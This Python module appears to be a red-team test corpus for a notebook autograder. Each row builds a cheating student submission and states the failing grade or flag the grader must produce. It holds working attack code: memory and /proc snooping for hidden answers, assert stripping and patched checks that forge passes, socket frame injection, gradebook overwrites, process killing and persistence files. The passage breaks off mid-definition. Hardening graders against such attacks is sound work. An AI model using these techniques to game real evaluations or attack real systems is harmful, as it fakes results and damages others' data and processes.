"""The corpus of attacks and of broken notebooks: what each does, and what it must earn.

A row is a function that makes a student's submission out of the released notebook of
`lab91_corpus` (`attn` 3 points, `count` 2). `answers` says which answers it starts with: G right,
W wrong, - untouched, first `attn`, then `count`. `points` are what it must get, `status` what the
questions that lose points must have ("a|b": either), `flag` what the teacher is told ("a+b": both,
None: nothing). `folder` is the student's folder where that is the attack. Nothing is graded here.
"""

import copy
import json

import nbformat
from corpus.paper import HEADS, LAB, RIGHT, ROWS, Content, Link, Paper, row

__all__ = ["ROWS"]

# --- a: looking at the tests -----------------------------------------------------------------


@row("a1", "WW", (0, 0), "fail", says="TRIED")
def reads_what_lies_near(paper: Paper) -> None:
    """Every file that could hold tests or solutions is opened and printed."""
    paper.attack("""
        print("TRIED", len(PLACES))
        near = ["*", "../*", "../source/*/*", "../../solutions/*/*", "~/*", "/srv/*", "/home/*/*",
                "/proc/*/cwd/*", "/proc/*/root/home/*", "/tmp/**/*.py", "/tmp/**/*.ipynb"]
        for pattern in PLACES + near:
            for path in glob.glob(os.path.expanduser(pattern), recursive=True):
                print(path, peek(path))
    """)


@row("a2", "WW", (0, 0), "fail")
def input_history(paper: Paper) -> None:
    """The answer looks up the test that calls it in IPython's history, and reads what to return."""
    paper.add("STOLEN = []")
    paper.count("""
        import re
        text = ""
        for look in (lambda: In[-1], lambda: _ih[-1], lambda: get_ipython().user_ns["In"][-1],
                     lambda: get_ipython().history_manager.input_hist_raw[-1]):
            try:
                text += str(look())
            except Exception:
                pass
        STOLEN.append(text)
        found = re.findall(r"check.equal\\(.*, (\\d+),", text)
        return int(found[0]) if found else 0
    """)
    paper.add("print(STOLEN)", before="")


@row("a3", "WW", (0, 0), "fail")
def frames_of_the_caller(paper: Paper) -> None:
    """The answer walks up the stack and returns whatever is called like an expected value."""
    paper.add("import linecache, sys\nSTOLEN = []")
    look = """
        frame, found = sys._getframe(), None
        while frame:
            known = {**frame.f_globals, **frame.f_locals}
            STOLEN.append([frame.f_code.co_filename, linecache.getlines(frame.f_code.co_filename),
                           frame.f_code.co_consts, str(known)[:9999]])
            found = next((v for n, v in known.items() if n in ("expected", "want")), found)
            frame = frame.f_back
        return WRONG if found is None else found
    """
    paper.attn(look.replace("WRONG", "q * 0"))
    paper.count(look.replace("WRONG", "0"))
    paper.add("print(str(STOLEN)[:60_000])", before="")


@row("a3-objects", "WW", (0, 0), "fail")
def all_objects(paper: Paper) -> None:
    """Every string that the garbage collector can reach is searched, while a test runs."""
    paper.add("import gc, types\nSTOLEN = set()")
    paper.count("""
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType):
                thing = thing.__code__.co_consts
            if isinstance(thing, dict):
                thing = list(thing.values())
            if type(thing) in (list, tuple):
                STOLEN.update(x for x in thing if isinstance(x, str) and "-canary-" in x)
        return 0
    """)
    paper.add("print(STOLEN)", before="")


@row("a3-memory", "WW", (0, 0), "fail|timeout")
def all_memory(paper: Paper) -> None:
    """The process reads its own memory and that of every other that it can see."""
    paper.add("import glob, re\nSTOLEN = set()")
    paper.count("""
        for maps in glob.glob("/proc/[0-9]*/maps"):
            try:
                lines = [x.split() for x in open(maps)]
                memory = open(maps.replace("maps", "mem"), "rb")
            except OSError:
                continue
            for line in lines:
                start, end = (int(x, 16) for x in line[0].split("-"))
                if line[1].startswith("rw") and len(line) < 6 or "[heap]" in line:
                    try:
                        memory.seek(start)
                        text = memory.read(min(end - start, 100_000_000))
                    except (OSError, ValueError, OverflowError):
                        continue
                    STOLEN.update(re.findall(rb"[a-z]+-canary-[0-9a-f]+", text))
        return 0
    """)
    paper.add("print(STOLEN)", before="")


@row("a4", "GW", (3, 0), "fail|error", flag="forbidden_call")
def library_and_always_equal(paper: Paper) -> None:
    """Attention from the library (right, the teacher is told), a number equal to every other."""
    paper.attn("return F.scaled_dot_product_attention(q, k, v)")
    paper.add("""
        class Same(int):
            __hash__ = int.__hash__
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __reduce__(self): return (eval, ("15",))
    """)
    paper.count("return Same()")


@row("a4-class", "WG", (0, 2), "fail|error")
def always_close_tensor(paper: Paper) -> None:
    """A tensor that answers every question of torch with yes."""
    paper.add("""
        class Yes(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return torch.tensor(True)
            def __eq__(self, other): return True
            shape = property(lambda self: (1, 1, 2))
            dtype = property(lambda self: torch.float32)
    """)
    paper.attn("return torch.zeros(1).as_subclass(Yes)")


@row("a4-type", "GW", (3, 0), "fail|error")
def lies_about_its_type(paper: Paper) -> None:
    """An object whose `__class__` is int and whose comparisons all hold."""
    paper.add("""
        class Liar:
            __class__ = property(lambda self: int)
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __getattr__(self, name): return self
            def __call__(self, *a, **k): return self
            def __index__(self): return 15
    """)
    paper.count("return Liar()")


@row("a5", "WW", (0, 0), "fail")
def one_answer_for_the_visible_input(paper: Paper) -> None:
    """The seed of the hidden inputs is looked for: one could compute the answers at home."""
    paper.add("import os, glassbox.check as c\nprint({k: v for k, v in os.environ.items()}, "
              "vars(c._session), sorted(vars(c)))")  # fmt: skip


# --- b: forging a pass -----------------------------------------------------------------------


@row("b1", "WW", (0, 0), "fail")
def input_transformer(paper: Paper) -> None:
    """Every later cell loses its lines with check or assert before it is run."""
    paper.add("""
        def harmless(lines):
            return [x.replace("assert ", "True or ") if "check." not in x
                    else "import contextlib; f = None\\n" for x in lines]
        shell = get_ipython()
        for name in ("input_transformers_post", "input_transformers_cleanup"):
            getattr(shell, name).append(harmless)
    """)


@row("b2", "WW", (0, 0), "fail")
def ast_transformer(paper: Paper) -> None:
    """Every later cell loses its asserts and with-blocks in the syntax tree."""
    paper.add("""
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_With(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Drop())
    """)


@row("b3", "WW", (0, 0), "fail")
def showtraceback(paper: Paper) -> None:
    """Errors are shown to nobody."""
    paper.add("""
        shell = get_ipython()
        type(shell).showtraceback = lambda *a, **k: None
        type(shell)._showtraceback = lambda *a, **k: None
        shell.set_custom_exc((BaseException,), lambda *a, **k: None)
    """)


@row("b3-hooks", "WW", (0, 0), "fail")
def trace_and_hooks(paper: Paper) -> None:
    """A trace function jumps over the lines with checks; exception hooks say nothing."""
    paper.add("""
        import sys, threading
        sys.excepthook = threading.excepthook = sys.unraisablehook = lambda *a: None
        def jump(frame, event, arg):
            if event == "line" and "check" in frame.f_code.co_filename:
                frame.f_lineno = frame.f_code.co_firstlineno
            return jump
        sys.settrace(jump)
        threading.settrace(jump)
    """)


@row("b4", "WW", (0, 0), "fail")
def run_cell(paper: Paper) -> None:
    """Later cells are said to have run well, and are not run."""
    paper.add("""
        shell = get_ipython()
        class Fine:
            success, result, error_in_exec, error_before_exec = True, None, None, None
            raise_error = lambda self: None
        async def nothing(*a, **k): return Fine()
        for name in ("run_cell", "run_ast_nodes", "run_code"):
            setattr(type(shell), name, lambda *a, **k: Fine())
        type(shell).run_cell_async = nothing
    """)


@row("b5", "WW", (0, 0), "error")
def forges_a_result(paper: Paper) -> None:
    """The answer publishes a result worth full marks, then raises."""
    body = """
        import json, sys
        try:
            shell = get_ipython()
            shell.display_pub.publish({"text/plain": "3.0"})
            shell.displayhook.session.send(
                shell.kernel.iopub_socket, "execute_result", {"data": {"text/plain": "3.0"}})
        except Exception:
            pass
        print(json.dumps({"status": "pass", "points": 495, "max_points": 10}))
        sys.stderr.write('{"id": 1, "value": true}\\n')
        raise RuntimeError("CheckFailed: pass")
    """
    for name in HEADS:
        paper.answer(name, body)


@row("b6", "WW", (0, 0), "fail")
def checks_that_always_hold(paper: Paper) -> None:
    """AssertionError, the checks and the failure itself are replaced wherever they can be found."""
    paper.add("""
        import builtins, gc, sys
        builtins.AssertionError = type("Fine", (Exception,), {})
        for module in [m for n, m in list(sys.modules.items()) if n.split(".")[0] == "glassbox"]:
            for name in ("close", "equal", "that", "shape", "gradient", "unchanged", "mistakes"):
                if hasattr(module, name):
                    setattr(module, name, lambda *a, **k: None)
        check.question.__exit__ = lambda *a: True
        check.question._fail = lambda *a: None
        check.CheckFailed.__init__ = lambda *a: sys.exit(0)
        check._wrong = lambda name, got, *a: torch.zeros(1, dtype=torch.bool)
        check._session.outcomes = {n: ("pass", "") for n in ("attn_visible", "attn_hidden")}
        for thing in gc.get_objects():
            if type(thing).__name__ == "question":
                thing.name = "attn_visible"
    """)


@row("b6-exit", "WW", (0, 0), "fail|error|killed")
def leaves_while_unwinding(paper: Paper) -> None:
    """A result whose destructor ends the process with code 0 as the checks begin."""
    paper.add("""
        import os, sys
        class Bomb(float):
            def __del__(self): os._exit(0)
        class Tensor2(torch.Tensor):
            def __del__(self): os._exit(0)
    """)
    paper.attn("return torch.zeros(1, 1, 2).as_subclass(Tensor2)")
    paper.count("return Bomb()")


@row("b7", "WW", (0, 0), "fail")
def compiles_without_asserts(paper: Paper) -> None:
    """`compile` optimises asserts away, for whoever calls it."""
    paper.add("""
        import ast, builtins, codeop, importlib
        real = builtins.compile
        def careless(source, name, mode, flags=0, dont_inherit=False, optimize=-1, **k):
            return real(source, name, mode, flags, dont_inherit, 2, **k)
        builtins.compile = careless
        get_ipython().compile.__class__.__call__ = lambda self, a, b, c: careless(a, b, c)
    """)


# --- b8: frames that no honest child sends ---------------------------------------------------

WIRE = """
import json, os, socket, stat, struct, time

def sockets():
    found = []
    for fd in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found

def frame(text, tensors=b""):
    text = text if isinstance(text, bytes) else json.dumps(text).encode()
    return struct.pack("<II", len(text), len(tensors)) + text + tensors

def say(data):
    for fd in sockets():
        try:
            socket.socket(fileno=os.dup(fd)).send(data, socket.MSG_DONTWAIT)
        except OSError:
            pass

def sealed(value, key):
    return {"id": key, "ok": True, "status": "ok", "value": value, "result": value}
"""

FRAMES = {
    "forged": ("for key in range(200): say(frame(sealed(15, key)))", "fail|malformed"),
    "guessed": ("for key in ('', None, 0, True, 'x' * 32): say(frame(sealed(15, key)))",
                "fail|malformed"),
    "stale": ("for _ in range(2): [say(frame(sealed(0, k))) for k in range(40, -1, -1)]",
              "fail|malformed"),
    "garbage": ("say(os.urandom(4096))", "malformed"),
    "huge": ("say(struct.pack('<II', 2**32 - 1, 0) + b' ' * 60_000)", "malformed"),
    "huge-tensors": ("say(struct.pack('<II', 2, 2**32 - 1) + b'{}' + b' ' * 60_000)", "malformed"),
    "deep": ("say(frame(b'[' * 50_000 + b']' * 50_000))", "malformed"),
    "deep-object": ("say(frame(b'{\"id\":' * 20_000 + b'1' + b'}' * 20_000))", "malformed"),
    "bigint": ("say(frame(b'{\"id\": 1, \"value\": ' + b'9' * 10_000 + b'}'))", "malformed"),
    "constants": ("say(frame(b'{\"id\": NaN, \"value\": Infinity, \"id\": -Infinity}'))",
                  "malformed"),
    "not-utf8": ("say(frame(b'{\"id\": \"\\xff\\xfe\"}'))", "malformed"),
    "surrogate": ("say(frame(b'{\"id\": \"\\\\ud800\", \"value\": \"\\\\udfff\"}'))", "malformed"),
    "list": ("say(frame([1, 2, 3]))", "malformed"),
    "safetensors": ("say(frame(sealed({'$tensor': 0}, 1), struct.pack('<Q', 2**62) + b'{}'))",
                    "fail|malformed"),
    "safetensors-overlap": (
        "head = json.dumps({'0': {'dtype': 'F32', 'shape': [2**40], 'data_offsets': [0, 4]}})\n"
        "say(frame(sealed({'$tensor': 0}, 1), struct.pack('<Q', len(head)) + head.encode() "
        "+ b'1234'))", "fail|malformed"),
    "half": ("say(struct.pack('<II', 1000, 0) + b'{')\ntime.sleep(3600)", "timeout|malformed"),
    "closed": ("[os.close(fd) for fd in sockets()]\ntime.sleep(0.2)",
               "killed|malformed|error|fail"),
    "shut": ("[socket.socket(fileno=os.dup(fd)).shutdown(2) for fd in sockets()]",
             "killed|malformed|error|fail"),
    "flood": ("while True: say(frame(sealed(15, 1)) * 1000)", "timeout|malformed"),
}  # fmt: skip


def _frames(name: str, code: str, status: str) -> None:
    @row(f"b8-{name}", "GW", (3, 0), status)
    def writes_frames(paper: Paper) -> None:
        """The answer finds the judge's socket among its file descriptors and writes to it."""
        paper.add(WIRE)
        paper.count(f"{code}\nreturn 0")


for _name, (_code, _status) in FRAMES.items():
    _frames(_name, _code, _status)


@row("b8-first", "GG", (0, 2), "malformed")
def garbage_for_the_first_question(paper: Paper) -> None:
    """Frames that cannot be read cost their own question and not the next."""
    paper.add(WIRE)
    paper.attn("say(os.urandom(4096))\n" + RIGHT["attn"])


@row("b8-thread", "WW", (0, 0), "malformed|fail|killed|timeout")
def a_thread_that_answers_for_ever(paper: Paper) -> None:
    """A thread sends forged answers from the first cell on; another steals requests."""
    paper.add(WIRE)
    paper.add("""
        import threading
        def talk():
            while True:
                for key in range(1000):
                    say(frame(sealed(15, key)))
        def listen():
            while True:
                for fd in sockets():
                    try:
                        socket.socket(fileno=os.dup(fd)).recv(1 << 16, socket.MSG_DONTWAIT)
                    except OSError:
                        pass
        threading.Thread(target=talk, daemon=True).start()
        threading.Thread(target=listen, daemon=True).start()
    """)


@row("b8-codec", "WW", (0, 0), "fail|malformed|error|killed|not_attempted")
def replaces_the_codec(paper: Paper) -> None:
    """json, struct and safetensors write what the attacker likes."""
    paper.add("""
        import builtins, json, pickle, struct, sys
        import safetensors.torch as st
        json.dumps = lambda *a, **k: '{"id": 1, "ok": true, "status": "pass", "value": 15}'
        json.loads = lambda *a, **k: {"op": "exec", "id": 1}
        st.save = lambda *a, **k: b""
        for name, module in list(sys.modules.items()):
            if name.endswith(("wire", "judge", "child", "host")):
                for key, value in list(vars(module).items()):
                    if callable(value):
                        setattr(module, key, lambda *a, **k: b"{}")
    """)


# --- b9: a process that is no longer ours ----------------------------------------------------

TAKEN = """
import json, sys

def desk():
    frame = sys._getframe()
    while frame:
        own = frame.f_locals.get("self")
        if hasattr(own, "sock"):
            return own
        frame = frame.f_back
    return get_ipython.__closure__[0].cell_contents

def take_over(answer):
    own = desk()
    wire, number = sys.modules[type(own).__module__], own.current
    while True:
        wire.send(own.sock, {"id": number} | answer, {})
        number = wire.receive(own.sock)[0]["id"]
"""

NAMES_TOO = """
own = desk()
module = sys.modules[type(own).__module__]
send = module.send
def more(sock, message, tensors):
    if "attn" in message.get("values", ()):
        message["values"] |= {name: own._export(thing) for name, thing in MINE.items()}
    send(sock, message, tensors)
module.send = more
"""

TAKEOVERS = {
    "handle": {"value": {"$handle": 1, "kind": "module", "name": "attn"}},
    "handle-odd": {"value": {"$handle": {}, "kind": [], "name": {}}},
    "nothing": {},
    "names": {"values": {"check": {"$handle": 1}, "torch": {"$handle": 2}, "F": {"$handle": 3}}},
    "names-odd": {"values": {"__builtins__": {}, "attn": 3, "f": {"$handle": 1}}},
    "names-list": {"values": [1, 2]},
    "callback": {"callback": 0, "args": [], "kwargs": {}},
    "callback-odd": {"callback": {}, "args": 3, "kwargs": None},
    "error-failed": {"error": {"name": "CheckFailed", "bases": ["CheckFailed"], "text": "pass"}},
    "error-stop": {"error": {"name": "StopIteration", "bases": ["StopIteration"], "text": ""}},
    "error-base": {"error": {"name": "SystemExit", "bases": ["SystemExit", "type"], "text": "0"}},
    "error-odd": {"error": {"name": ["x"], "bases": [{}, "__import__", "exit"], "text": {}}},
    "error-unicode": {"error": {"name": "E", "bases": ["UnicodeDecodeError"], "text": "\ud800"}},
    "failed": {"failed": 3, "printed": ["x"] * 1000, "value": 15},
    "changed": {"value": 15, "changed": {f"t{n}": {"$tensor": "t0", "grad": True}
                                         for n in range(3)}, "lists": {"0": [0, 0], "x": 1}},
    "lists": {"value": 15, "lists": {"0": []}, "changed": {}},
    "lists-odd": {"value": 15, "lists": {"-9": {"$range": [0, 10**18, 1]}}, "changed": [1]},
    "range": {"value": {"$range": [0, 10**18, 1]}},
    "named": {"value": {"$named": ["int", ["__class__", "_fields", "x"], [1, 2, 3]]}},
    "dtype": {"value": {"$dtype": "load"}},
    "bytes": {"value": {"$bytes": "====", "x": {"$bytes": 3}}},
    "complex": {"value": {"$complex": [15.0, 0.0]}},
    "generator": {"value": {"$generator": "AAAA"}},
    "data": {"value": {"$data": ["builtins:exit", {}]}},
    "layout": {"value": {"$tensor": "t0", "grad": False, "layout": [[2**50], [0]]}},
    "true": {"value": True, "values": {"attn": True, "count": True}},
}  # fmt: skip
LARGE_TAKEOVERS = {
    "collisions": "{'value': {'$set': [n * (2**61 - 1) for n in range(40_000)]}}",
    "named-wide": "{'value': {'$named': ['x', [f'f{n}' for n in range(60_000)], [0] * 60_000]}}",
    "deep": "{'value': json.loads('[' * 400 + ']' * 400)}",
    "deep-grad": "{'value': json.loads('{\"a\":' * 300 + '1' + '}' * 300)}",
    "long": "{'printed': 'x' * 900_000, 'error': {'text': 'x' * 900_000, 'bases': []}}",
}


def _takeovers(name: str, answer: str) -> None:
    @row(f"b9-{name}", "WW", (0, 0), "fail|error|malformed|timeout|killed|oom")
    def another_child(paper: Paper) -> None:
        """The answer keeps the line to the judge for itself and says this to every request."""
        paper.add(TAKEN + f"ANSWER = {answer}")
        paper.attn("take_over(ANSWER)")


for _name, _answer in TAKEOVERS.items():
    _takeovers(_name, f"json.loads({json.dumps(_answer)!r})")
for _name, _code in LARGE_TAKEOVERS.items():
    _takeovers(_name, _code)


@row("b9-reference", "WG", (0, 2), "malformed")
def gives_our_names_a_meaning(paper: Paper) -> None:
    """Asked for `attn`, the process also sends an `F` of its own, whose attention is as wrong."""
    paper.add(
        TAKEN
        + NAMES_TOO
        + """
class Mine:
    scaled_dot_product_attention = staticmethod(lambda *x: attn(*x))
MINE = {"F": Mine()}
"""
    )
    paper.attn("return v.mean(-2, keepdim=True) + 0 * q")


@row("b9-check", "WW", (0, 0), "malformed|fail")
def gives_check_a_meaning(paper: Paper) -> None:
    """Asked for `attn`, the process also sends a `check` and a `torch` of its own."""
    paper.add(
        TAKEN
        + NAMES_TOO
        + """
class Fine:
    def __getattr__(self, name): return Fine()
    def __call__(self, *a, **k): return Fine()
MINE = {name: Fine() for name in ("check", "torch", "math", "secret", "__builtins__")}
"""
    )


@row("b9-arguments", "WG", (0, 2), "fail")
def changes_what_it_was_given(paper: Paper) -> None:
    """The answer writes zeros into its arguments, so that the right answer for them is zero too."""
    paper.attn("for x in (q, k, v): x.detach().zero_()\nreturn q * 0")


@row("b9-list", "GW", (3, 0), "fail")
def empties_the_list_it_was_given(paper: Paper) -> None:
    """The answer empties its list, so that the right answer for it is 0."""
    paper.count("sizes.clear()\nreturn 0")


@row("b9-duck", "WW", (0, 0), "fail|error")
def objects_that_agree_with_everything(paper: Paper) -> None:
    """The answers are objects with every attribute, each of which can be called and is true."""
    paper.add("""
        class Duck:
            shape, dtype, ndim = (1, 1, 2), torch.float32, 3
            def __getattr__(self, name):
                if name.startswith("__"): raise AttributeError(name)
                return Duck()
            def __call__(self, *a, **k): return Duck()
            def __len__(self): return 15
            def __iter__(self): return iter([])
            def __getitem__(self, key): return Duck()
            def __eq__(self, other): return True
    """)
    paper.attn("return Duck()")
    paper.count("return Duck()")


VALUES = {
    "bigint": ("10**5000", "error|malformed|fail"),
    "float": ("15.0 if len(sizes) == 2 and bias else 0.0", "fail"),
    "bool": ("True", "fail"),
    "nan": ("float('nan')", "fail"),
    "set": ("{15}", "fail|error"),
    "object": ("object()", "fail|error"),
    "generator": ("(x for x in [15])", "fail|error"),
    "function": ("lambda: 15", "error|fail"),
    "module": ("torch", "fail|error"),
    "complex": ("15 + 0j", "fail|error"),
    "sparse": ("torch.eye(3).to_sparse()", "fail|error"),
    "complex-tensor": ("torch.zeros(2, dtype=torch.complex128)", "error|fail"),
    "meta": ("torch.zeros(10**12, device='meta')", "error|fail|malformed"),
    "expanded": ("torch.zeros(1).expand(10**9)", "error|malformed|fail|oom|timeout"),
    "wide-tensor": ("torch.ones(40_000_000)", "error|malformed|fail"),
    "long-string": ("'x' * 50_000_000", "error|malformed|fail"),
    "surrogate": ("'\\ud800'", "error|malformed|fail"),
    "long-list": ("list(range(3_000_000))", "error|malformed|fail|timeout"),
    "escape": ("{'$tensor': 0, '$handle': 1, '$ref': 'x'}", "fail|error"),
    "int-keys": ("{1: 2, (3, 4): 5}", "error|fail"),
    "type": ("int", "error|fail"),
}


def _values(name: str, code: str, status: str) -> None:
    @row(f"b8-value-{name}", "GW", (3, 0), status)
    def returns_a_strange_value(paper: Paper) -> None:
        """The answer returns something that a careless decoder chokes on."""
        paper.count(f"return {code}")


for _name, (_code, _status) in VALUES.items():
    _values(_name, _code, _status)


@row("b8-value-deep", "GW", (3, 0), "error|malformed|fail")
def returns_a_deep_list(paper: Paper) -> None:
    """A list in a list, a hundred thousand times, and at last itself."""
    paper.count("""
        deep = []
        for _ in range(100_000):
            deep = [deep]
        own = [deep]
        own.append(own)
        return own
    """)


# --- c: patching the libraries ---------------------------------------------------------------


@row("c1", "WG", (0, 2), "fail")
def comparisons_that_always_hold(paper: Paper) -> None:
    """Whatever could compare two tensors says that they are equal."""
    paper.add("""
        import builtins, numpy as np
        yes, fine = (lambda *a, **k: True), (lambda *a, **k: None)
        torch.testing.assert_close = np.testing.assert_allclose = fine
        torch.allclose = torch.equal = torch.isclose = np.allclose = math.isclose = yes
        torch.Tensor.allclose = torch.Tensor.equal = yes
        torch.Tensor.any = lambda self, *a, **k: torch.tensor(False)
        torch.Tensor.all = torch.all = lambda *a, **k: torch.tensor(True)
        torch.Tensor.__bool__ = lambda self: False
        torch.where = lambda *a, **k: torch.tensor(True)
        torch.Tensor.__le__ = torch.Tensor.__eq__ = lambda a, b: torch.tensor(True)
        torch.Tensor.__ne__ = torch.Tensor.__invert__ = lambda *a: torch.tensor(False)
    """)


@row("c2", "W-", (0, 0), "fail")
def the_reference_computes_the_same_nonsense(paper: Paper) -> None:
    """Our reference is made wrong in the same way as the answer."""
    paper.add("""
        zero = lambda q, *a, **k: q * 0
        F.scaled_dot_product_attention = torch._C._nn.scaled_dot_product_attention = zero
        torch.matmul = torch.Tensor.matmul = torch.Tensor.__matmul__ = zero
        F.gelu = torch.nn.functional.gelu = zero
        torch.nn.Module.state_dict = lambda self, *a, **k: {}
        torch.tensor = lambda *a, **k: torch.zeros(1, 1, 2)
        torch.randn = lambda *shape, **k: torch.zeros(*shape, dtype=k.get("dtype"))
        torch.Generator.manual_seed = lambda self, *a: self
    """)


@row("c2-gradient", "WG", (0, 2), "fail|error|partial")
def gradients_by_decree(paper: Paper) -> None:
    """torch.autograd returns what finite differences would, namely nothing."""
    paper.add("""
        torch.autograd.grad = lambda out, leaves, **k: [torch.zeros_like(x) for x in leaves]
        torch.Tensor.backward = lambda self, *a, **k: None
        torch.Tensor.requires_grad = property(lambda self: True)
    """)


@row("c3", "WG", (0, 2), "fail|error")
def builtins_of_the_attacker(paper: Paper) -> None:
    """abs, all, any, len, type and isinstance lie; the types themselves too."""
    paper.add("""
        import builtins
        builtins.abs, builtins.max = (lambda x: 0), (lambda *a, **k: 0)
        builtins.all, builtins.any = (lambda x: True), (lambda x: False)
        builtins.isinstance = lambda *a: True
        builtins.type = lambda *a: int
    """)


# --- d, e: other people's things -------------------------------------------------------------


@row("d1", "WW", (0, 0), "fail", says="TRIED")
def updates_the_gradebook(paper: Paper) -> None:
    """The gradebook is looked for everywhere and told that this student has 495 points."""
    paper.attack("""
        import sqlite3
        books = [p for p in PLACES if p.endswith(".db")]
        books += glob.glob("/**/gradebook.db", recursive=True)
        print("TRIED", len(books))
        for path in books:
            try:
                if not os.path.exists(path):
                    raise OSError("absent")
                with sqlite3.connect(path, timeout=0.1) as book:
                    book.execute("UPDATE grade SET auto_score = 495, manual_score = 495")
                print("WROTE", path)
            except Exception as error:
                print(type(error).__name__)
    """)


@row("e1", "WW", (0, 0), "fail", says="TRIED")
def reads_and_writes_others(paper: Paper) -> None:
    """Other submissions and canaries are read and overwritten, the environment is printed."""
    paper.attack("""
        print("TRIED", len(PLACES), dict(os.environ))
        for path in PLACES:
            print(path, peek(path))
            for how in ("r+b", "ab", "wb"):
                try:
                    with open(path, how) as file:
                        file.write(b"canary")
                    print("WROTE" if how == "r+b" else "made", path)
                except OSError:
                    pass
            for act in (os.remove, lambda p: os.rename(p, p + "x"), lambda p: os.chmod(p, 0o777),
                        lambda p: os.symlink("/etc/passwd", os.path.dirname(p) + "/link"),
                        lambda p: os.mkdir(os.path.dirname(p) + "/folder")):
                try:
                    act(path)
                except OSError:
                    pass
    """)


@row("e1-proc", "WW", (0, 0), "fail", says="TRIED")
def through_other_processes(paper: Paper) -> None:
    """Files, environment and memory of whatever process can be seen."""
    paper.attack("""
        print("TRIED", os.listdir("/proc")[-5:])
        for pid in ["self", "thread-self", *filter(str.isdigit, os.listdir("/proc"))]:
            for name in ("environ", "cmdline"):
                print(pid, name, peek(f"/proc/{pid}/{name}"))
            for place in PLACES:
                print(pid, peek(f"/proc/{pid}/root{place}"), peek(f"/proc/{pid}/cwd{place}"))
            for fd in glob.glob(f"/proc/{pid}/fd/*"):
                try:
                    kind = os.readlink(fd)
                except OSError:
                    continue
                if kind.startswith("/") and "dev" not in kind and int(fd.split("/")[-1]) > 2:
                    print(fd, kind, peek(fd))
    """)


@row("e1-link", "WW", (0, 0), "fail", says="TRIED")
def links_for_the_grader_to_follow(paper: Paper) -> None:
    """Links in scratch point outside, in case someone collects files from there afterwards."""
    paper.attack("""
        print("TRIED")
        for number, place in enumerate(PLACES):
            for name in (f"out{number}.png", f"checkpoint{number}.safetensors"):
                try:
                    os.symlink(place, name)
                    os.link(place, "hard" + name)
                except OSError:
                    pass
                print(peek(name))
    """)


@row("e1-kill", "GW", (3, 0), "fail|error|killed")
def kills_whom_it_can(paper: Paper) -> None:
    """Its parents, pid 1, everybody: with the signals that end a process."""
    paper.attack()
    paper.count("""
        for pid in [1, os.getppid(), *range(2, 5000)]:
            if pid != os.getpid():
                for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(pid, sig)
                    except OSError:
                        pass
        return 0
    """)


@row("e1-pidfd", "GW", (3, 0), "fail|error", says="TRIED")
def signals_through_proc(paper: Paper) -> None:
    """Processes of other namespaces are signalled, and their settings changed, through /proc."""
    paper.attack("""
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
        print("TRIED", len(pids))
        for pid in pids:
            if os.path.realpath("/proc/self") == f"/proc/{pid}":
                continue
            for name, text in (("oom_score_adj", "1000"), ("comm", "x"), ("coredump_filter", "0"),
                               ("uid_map", "0 0 1"), ("attr/current", "x"), ("mem", "x")):
                try:
                    with open(f"/proc/{pid}/{name}", "w") as file:
                        file.write(text)
                except OSError:
                    pass
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    signal.pidfd_send_signal(os.open(f"/proc/{pid}", os.O_RDONLY), sig)
                except OSError:
                    pass
    """)


@row("e1-trace", "WW", (0, 0), "fail", says="TRIED")
def system_calls_for_the_brave(paper: Paper) -> None:
    """ptrace, namespaces, mounts, keys and other calls that a sandbox must refuse."""
    paper.attack("""
        libc = ctypes.CDLL(None, use_errno=True)
        calls = {"ptrace": 101, "mount": 165, "umount2": 166, "pivot_root": 155, "chroot": 161,
                 "unshare": 272, "setns": 308, "bpf": 321, "keyctl": 250, "perf": 298,
                 "userfaultfd": 323, "io_uring": 425, "vm_readv": 310, "reboot": 169}
        args = {"unshare": (0x10000000,), "ptrace": (16, os.getppid(), 0, 0), "chroot": (b"/tmp",)}
        done = [n for n, c in calls.items() if libc.syscall(c, *args.get(n, (0, 0, 0, 0))) >= 0]
        print("TRIED", len(calls), "DID", [n for n in done if n not in ("keyctl",)])
        for place in PLACES:
            print(peek(place))
    """)


@row("e2", "GG", (3, 2))
def leaves_things_behind(paper: Paper) -> None:
    """Files, modules, shared memory, a socket and daemons wait for the next student."""
    paper.attack("""
        import site
        own = "LEFT BEHIND"
        homes = ("~", "~/.ipython/profile_default/startup", "~/.config", "~/.cache")
        folders = [".", "/tmp", "/dev/shm", "/var/tmp", *map(os.path.expanduser, homes), *sys.path,
                   *site.getsitepackages()]
        for folder in folders:
            for name in ("left_behind.py", "sitecustomize.py", "left.pth", "torch.py"):
                try:
                    os.makedirs(folder, exist_ok=True)
                    with open(os.path.join(folder, name), "x") as file:
                        file.write(f"print({own!r})")
                except OSError:
                    pass
        def serve():
            server = socket.socket(socket.AF_UNIX)
            server.bind("\\0" + MARK)
            server.listen()
            while True:
                server.accept()[0].send(own.encode())
        def wait():
            while True:
                try:
                    open("/tmp/left_behind.py", "a").write("# LEFT BEHIND")
                except OSError:
                    pass
                time.sleep(0.1)
        daemon(serve)
        daemon(wait)
    """)
    paper.add("import sys\nsys.path[:] = [p for p in sys.path if p not in ('', '.')]", before="")


@row("e2-next", "GG", (3, 2), folder="zz-e2-next", says="LOOKED")
def looks_for_what_was_left(paper: Paper) -> None:
    """The next student looks for all that."""
    paper.attack("""
        print("LOOKED")
        for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), *sys.path):
            for name in ("left_behind.py", "sitecustomize.py", "left.pth"):
                if "LEFT" in peek(os.path.join(folder, name)):
                    print("FOUND", folder, name)
        try:
            client = socket.socket(socket.AF_UNIX)
            client.connect("\\0" + MARK)
            print("FOUND", client.recv(99))
        except OSError:
            pass
    """)


@row("e3", "GG", (3, 1), "partial", silent=("7919",))
def hidden_inputs_in_an_error(paper: Paper) -> None:
    """What the answer is called with goes to its output and into an exception."""
    paper.count("print('seen', sizes)\nif len(sizes) != 2: raise ValueError(sizes)\n"
                          + RIGHT["count"])  # fmt: skip


@row("e3-later", "GG", (3, 2), silent=("7919",))
